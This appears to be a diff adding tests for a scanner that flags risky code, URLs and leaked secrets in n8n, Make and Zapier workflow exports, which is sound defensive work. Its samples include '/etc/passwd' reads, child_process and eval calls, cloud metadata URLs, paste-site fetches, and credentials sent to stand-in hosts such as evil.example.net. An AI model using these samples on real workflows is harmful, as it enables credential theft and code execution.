@@ -1,0 +1,292 @@
+import { describe, expect, it } from 'vitest';
+import {
+  MAX_SCANNED_PER_NODE,
+  checkExport,
+  checkSafety,
+  highestSeverity,
+  parseWorkflowExport,
+  type SafetyFinding,
+} from '../src/index.ts';
+import { fixture, fixtureFiles, n8nNode } from './helpers.ts';
+
+const n8n = (...nodes: Record<string, unknown>[]) => JSON.stringify({ nodes, connections: {} });
+const codeNode = (jsCode: string, extra: Record<string, unknown> = {}) =>
+  n8n(n8nNode('Run code', 'n8n-nodes-base.code', { typeVersion: 2, parameters: { jsCode, ...extra } }));
+const httpNode = (parameters: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
+  n8n(n8nNode('Call', 'n8n-nodes-base.httpRequest', { typeVersion: 4.2, parameters, ...extra }));
+const make = (...modules: Record<string, unknown>[]) =>
+  JSON.stringify({ name: 'Scenario', flow: modules, metadata: { version: 1 } });
+const zapier = (...steps: Record<string, unknown>[]) =>
+  JSON.stringify({
+    metadata: { version: 2 },
+    zaps: [
+      {
+        id: 1,
+        title: 'Z',
+        nodes: Object.fromEntries(
+          steps.map((step, i) => [i + 1, { id: i + 1, parent_id: i === 0 ? null : i, ...step }]),
+        ),
+      },
+    ],
+  });
+
+const brief = (findings: SafetyFinding[]) =>
+  findings.map((f) => `${f.code}:${f.severity}${f.detail !== undefined ? `:${f.detail}` : ''}`);
+const codes = (findings: SafetyFinding[]) => findings.map((f) => f.code);
+
+describe('checkSafety: n8n node types', () => {
+  it.each([
+    ['n8n-nodes-base.executeCommand', 'execute_command:high'],
+    ['n8n-nodes-base.ssh', 'ssh:medium'],
+    ['n8n-nodes-base.ftp', 'ftp:low'],
+    ['n8n-nodes-base.readWriteFile', 'file_system:medium'],
+    ['n8n-nodes-base.readBinaryFile', 'file_system:medium'],
+    ['n8n-nodes-base.writeBinaryFile', 'file_system:medium'],
+    ['n8n-nodes-base.localFileTrigger', 'file_system:medium'],
+    ['n8n-nodes-base.function', 'code_node:info'],
+    ['n8n-nodes-base.functionItem', 'code_node:info'],
+  ])('%s → %s', (type, expected) => {
+    const findings = checkSafety(n8n(n8nNode('Step', type, { parameters: { command: 'ls' } })));
+    expect(brief(findings)).toEqual([expected]);
+    expect(findings[0]).toMatchObject({ node: 'Step', node_type: type, public: true });
+  });
+
+  it('names the npm package of a community node once, however many nodes use it', () => {
+    const findings = checkSafety(
+      n8n(
+        n8nNode('A', 'n8n-nodes-mcp.mcpClient'),
+        n8nNode('B', 'n8n-nodes-mcp.mcpClientTool'),
+        n8nNode('C', '@acme/n8n-nodes-acme.thing'),
+        n8nNode('D', 'n8n-nodes-base.set'),
+        n8nNode('E', '@n8n/n8n-nodes-langchain.agent'),
+      ),
+    );
+    expect(brief(findings)).toEqual([
+      'community_package:medium:n8n-nodes-mcp',
+      'community_package:medium:@acme/n8n-nodes-acme',
+    ]);
+  });
+
+  it('flags a webhook or form trigger without authentication, not one with it, nor a disabled one', () => {
+    const webhook = (parameters: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
+      checkSafety(n8n(n8nNode('Hook', 'n8n-nodes-base.webhook', { typeVersion: 2, parameters, ...extra })));
+    expect(brief(webhook({ path: 'x' }))).toEqual(['webhook_no_auth:medium']);
+    expect(brief(webhook({ path: 'x', authentication: 'none' }))).toEqual(['webhook_no_auth:medium']);
+    expect(webhook({ path: 'x', authentication: 'headerAuth' })).toEqual([]);
+    expect(webhook({ path: 'x' }, { disabled: true })).toEqual([]);
+    const form = (parameters: Record<string, unknown>) =>
+      checkSafety(n8n(n8nNode('Form', 'n8n-nodes-base.formTrigger', { typeVersion: 2.2, parameters })));
+    expect(brief(form({ formTitle: 'Sign up' }))).toEqual(['form_no_auth:low']);
+    expect(form({ formTitle: 'Sign up', authentication: 'basicAuth' })).toEqual([]);
+  });
+});
+
+describe('checkSafety: code', () => {
+  it.each([
+    ["const { exec } = require('child_process');", 'code_child_process:high:child_process'],
+    ['import { spawn } from "node:child_process";', 'code_child_process:high:child_process'],
+    ["const fs = require('fs'); fs.readFileSync('/etc/passwd')", 'code_fs:high:fs'],
+    ["const fsp = await import('fs/promises');", 'code_fs:high:fs/promises'],
+    ['return eval(items[0].json.src);', 'code_eval:high:eval'],
+    ['const f = new Function("a", body);', 'code_eval:high:Function'],
+    ["Function('return this')()", 'code_eval:high:Function'],
+    ["const vm = require('vm');", 'code_eval:high:vm'],
+    ["const https = require('https');", 'code_network_module:high:https'],
+    ["import axios from 'axios';", 'code_network_module:high:axios'],
+    ["const WebSocket = require('ws');", 'code_network_module:high:ws'],
+    ["const net = require('node:net');", 'code_network_module:high:net'],
+    [`const payload = "${'QUJD'.repeat(40)}x9Zk${'a1B2'.repeat(20)}";`, 'code_blob:medium'],
+    [`const key = "${'0123456789abcdef'.repeat(9)}";`, 'code_blob:medium'],
+    ["await fetch('https://pastebin.com/raw/abc123')", 'http_paste_site:high:pastebin.com'],
+    ["await fetch('http://45.33.12.9/beacon')", 'http_ip_literal:medium:45.33.12.9'],
+  ])('%s → %s', (code, expected) => {
+    const findings = checkSafety(codeNode(code));
+    expect(brief(findings)).toContain(expected);
+    expect(brief(findings)).toContain('code_node:info');
+    // Never the code itself.
+    expect(JSON.stringify(findings)).not.toContain(code.slice(0, 20));
+  });
+
+  it('reads Python code with Python rules', () => {
+    const findings = checkSafety(
+      codeNode('', {
+        language: 'python',
+        pythonCode: 'import subprocess\nimport requests\nexec(src)\nopen("/etc/passwd")',
+      }),
+    );
+    expect(brief(findings)).toEqual([
+      'code_child_process:high:subprocess',
+      'code_fs:high:fs',
+      'code_eval:high:exec',
+      'code_network_module:high:requests',
+      'code_node:info',
+    ]);
+  });
+
+  it('leaves ordinary code alone', () => {
+    const ordinary = [
+      'const out = [];',
+      'for (const item of $input.all()) {',
+      '  const match = /(\\d+)/.exec(item.json.text); // Function(s) to evaluate later',
+      "  out.push({ json: { id: match?.[1], url: 'https://api.example.com/v1/items', when: new Date().toISOString() } });",
+      '}',
+      "const res = await this.helpers.httpRequest({ url: 'https://api.openai.com/v1/models' });",
+      "const img = 'data:image/png;base64," + 'iVBORw0KGgo'.repeat(30) + "';",
+      'return out;',
+    ].join('\n');
+    expect(brief(checkSafety(codeNode(ordinary)))).toEqual(['code_node:info']);
+  });
+
+  it('scans at most MAX_SCANNED_PER_NODE characters of a node, in linear time', () => {
+    const huge = `${'/* x */ '.repeat(MAX_SCANNED_PER_NODE / 8)}require('child_process')`;
+    expect(brief(checkSafety(codeNode(huge)))).toEqual(['code_node:info']);
+    // Pathological input for the patterns: long runs that almost match.
+    const almost = `${'A'.repeat(500_000)}${'/*'.repeat(100_000)}${'\\x4'.repeat(100_000)}`;
+    expect(codes(checkSafety(codeNode(almost)))).toContain('code_node');
+  });
+});
+
+describe('checkSafety: HTTP requests', () => {
+  it.each([
+    ['http://45.33.12.9/x', 'http_ip_literal:medium:45.33.12.9'],
+    ['http://3232235777/x', 'http_ip_literal:low:192.168.1.1'],
+    ['http://0x2d210c09/x', 'http_ip_literal:medium:45.33.12.9'],
+    ['http://[2001:db8::1]:8080/x', 'http_ip_literal:medium:[2001:db8::1]'],
+    ['http://169.254.169.254/latest/meta-data/', 'http_ip_literal:high:169.254.169.254'],
+    ['=https://paste.ee/r/{{ $json.id }}', 'http_paste_site:high:paste.ee'],
+    ['https://transfer.sh/upload', 'http_paste_site:high:transfer.sh'],
+    ['https://bit.ly/3abc', 'http_url_shortener:medium:bit.ly'],
+    ['https://tinyurl.com/y2x', 'http_url_shortener:medium:tinyurl.com'],
+    ['https://file.io/', 'http_file_sharing:medium:file.io'],
+    ['https://store1.gofile.io/uploadFile', 'http_file_sharing:medium:store1.gofile.io'],
+  ])('%s → %s', (url, expected) => {
+    expect(brief(checkSafety(httpNode({ url })))).toContain(expected);
+  });
+
+  it('does not guess the host of an expression', () => {
+    for (const url of ['={{ $json.url }}', '=https://{{ $json.host }}/x', '=http://{{$json.ip}}:8080/'])
+      expect(brief(checkSafety(httpNode({ url })))).toEqual(['http_request:info']);
+    expect(brief(checkSafety(httpNode({ url: 'https://api.todoist.com/rest/v2/tasks' })))).toEqual([
+      'http_request:info:api.todoist.com',
+    ]);
+  });
+
+  it("flags a predefined credential sent outside its service's domain", () => {
+    const withCredential = (url: string, nodeCredentialType: string) =>
+      brief(checkSafety(httpNode({ url, authentication: 'predefinedCredentialType', nodeCredentialType })));
+    expect(withCredential('https://slack.com/api/chat.postMessage', 'slackApi')).toEqual([
+      'http_request:info:slack.com',
+    ]);
+    expect(withCredential('https://evil.example.net/collect', 'slackApi')).toContain(
+      'credential_foreign_host:high:evil.example.net',
+    );
+    expect(withCredential('https://api.hubapi.com/crm/v3/objects', 'hubspotAppToken')).not.toContain(
+      'credential_foreign_host:high:api.hubapi.com',
+    );
+    // A service people host themselves: its address cannot be known, so no alarm.
+    expect(withCredential('https://blog.example.com/wp-json/wp/v2/posts', 'wordpressApi')).toEqual([
+      'http_request:info:blog.example.com',
+    ]);
+    // …unless the address is one the other rules call risky.
+    expect(withCredential('https://pastebin.com/api/api_post.php', 'wordpressApi')).toContain(
+      'credential_foreign_host:high:pastebin.com',
+    );
+  });
+
+  it('flags $credentials expressions sent to a named host', () => {
+    const findings = checkSafety(
+      httpNode({
+        url: 'https://collect.example.org/in',
+        sendBody: true,
+        bodyParameters: { parameters: [{ name: 'k', value: '={{ $credentials.apiKey }}' }] },
+      }),
+    );
+    expect(brief(findings)).toContain('credential_foreign_host:high:collect.example.org');
+  });
+});
+
+describe('checkSafety: Make and Zapier', () => {
+  it('reads Make code, HTTP and webhook modules', () => {
+    const findings = checkSafety(
+      make(
+        { id: 1, module: 'gateway:CustomWebHook', parameters: { hook: 1 }, mapper: {} },
+        { id: 2, module: 'code:ExecuteCode', mapper: { code: "const cp = require('child_process');" } },
+        { id: 3, module: 'http:ActionSendData', mapper: { url: 'https://pastebin.com/api', method: 'post' } },
+        { id: 4, module: 'http:ActionSendData', mapper: { url: '{{1.url}}', method: 'get' } },
+      ),
+    );
+    expect(brief(findings)).toEqual([
+      'code_child_process:high:child_process',
+      'http_paste_site:high:pastebin.com',
+      'webhook_no_auth:low:secret-url',
+      'code_node:info',
+      'http_request:info:pastebin.com',
+      'http_request:info',
+    ]);
+    expect(findings.find((f) => f.code === 'code_node')).toMatchObject({ node_type: 'code:ExecuteCode' });
+  });
+
+  it('reads Code by Zapier and Webhooks by Zapier steps', () => {
+    const findings = checkSafety(
+      zapier(
+        { selected_api: 'WebHookAPI', action: 'hook', type_of: 'read', params: {} },
+        { selected_api: 'CodeAPI', action: 'run_javascript', params: { code: 'return eval(inputData.x)' } },
+        { selected_api: 'CodeAPI', action: 'run_python', params: { code: 'import socket\n' } },
+        { selected_api: 'WebHookAPI', action: 'post', type_of: 'write', params: { url: 'http://8.8.4.4/p' } },
+      ),
+    );
+    expect(brief(findings)).toEqual([
+      'code_eval:high:eval',
+      'code_network_module:high:socket',
+      'http_ip_literal:medium:8.8.4.4',
+      'webhook_no_auth:low:secret-url',
+      'code_node:info',
+      'code_node:info',
+      'http_request:info:8.8.4.4',
+    ]);
+  });
+});
+
+describe('checkSafety: secrets', () => {
+  it('reports each secret as high, with its kind and never its value', () => {
+    const findings = checkSafety(fixture('synthetic/handmade--n8n-with-leaked-secrets.json'));
+    expect(brief(findings.filter((f) => f.code === 'secret'))).toEqual([
+      'secret:high:openai-api-key',
+      'secret:high:aws-access-key-id',
+      'secret:high:secret-field',
+      'secret:high:telegram-bot-token',
+    ]);
+    expect(JSON.stringify(findings)).not.toContain('wJalrXUtnFEMI');
+  });
+
+  it('checkExport checks the redacted text and says once that secrets were removed', () => {
+    const result = checkExport(fixture('synthetic/handmade--n8n-with-leaked-secrets.json'), { redact: true });
+    if (!result.ok) throw new Error('expected the redacted upload to pass');
+    expect(codes(result.safety)).not.toContain('secret');
+    expect(result.safety.filter((f) => f.code === 'secret_removed')).toEqual([
+      {
+        code: 'secret_removed',
+        severity: 'info',
+        detail: 'aws-access-key-id, openai-api-key, secret-field, telegram-bot-token',
+        public: true,
+      },
+    ]);
+    expect(result.setup.difficulty).toMatch(/^(beginner|intermediate|advanced)$/);
+  });
+});
+
+describe('checkSafety: the clean fixtures', () => {
+  const files = [...fixtureFiles('n8n'), ...fixtureFiles('make'), ...fixtureFiles('zapier')];
+  it.each(files)('%s has no high finding', (file) => {
+    const findings = checkSafety(fixture(file));
+    expect(findings.filter((f) => f.severity === 'high')).toEqual([]);
+    expect(highestSeverity(findings) === 'high').toBe(false);
+  });
+
+  it('takes a parse result as well as text, and nothing from a file that is not a workflow', () => {
+    const text = fixture('n8n/Zie619--workflows__Webhook__1897_Webhook_Filter_Sync_Webhook.json');
+    expect(checkSafety(parseWorkflowExport(text))).toEqual(checkSafety(text));
+    expect(checkSafety('{"hello": 1}')).toEqual([]);
+    expect(checkSafety('not json')).toEqual([]);
+  });
+});
